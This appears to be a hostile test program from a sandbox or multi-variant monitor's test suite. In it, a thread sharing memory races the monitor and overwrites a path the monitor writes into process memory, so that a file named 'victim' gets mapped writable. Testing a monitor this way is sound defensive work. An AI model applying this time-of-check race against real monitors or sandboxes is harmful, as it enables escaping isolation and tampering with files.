/* redirect WHO: the monitor has a variant open its ring by a path that it writes into the variant's memory. A process
   that shares that memory writes another path there meanwhile: a file, `victim`, that is then mapped for writing. */
#include "hostile.h"
#include <sched.h>

enum { ATTEMPTS = 100, SCRATCH = 2048 /* crates/monitor/src/tracer/agent.rs */ };
static volatile int stop;
static volatile uint64_t *volatile scratch;
static char stack[65536];

static int rewrite(void *unused) {
    uint64_t path;
    (void)unused;
    memcpy(&path, "victim", sizeof path - 1);
    path &= 0xffffffffffff;
    while (!stop)
        for (int i = 0; scratch && i < 1000; i++)
            *scratch = path;
    return 0;
}

static void attempt(const char *who) {
    pid_t helper = clone(rewrite, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
    if (concerns(who))
        scratch = (volatile uint64_t *)((char *)context() + SCRATCH);
    for (int i = 0; i < 50; i++)
        hot(SYS_getppid, 0, 0, 0);
    stop = 1;
    waitpid(helper, NULL, 0);
    _exit(0);
}

int main(int count, char **arguments) {
    if (count != 2)
        return 95;
    warm_up();
    for (int i = 0; i < ATTEMPTS; i++) {
        if (fork() == 0)
            attempt(arguments[1]);
        wait(NULL);
    }
    say("after\n");
    return 0;
}
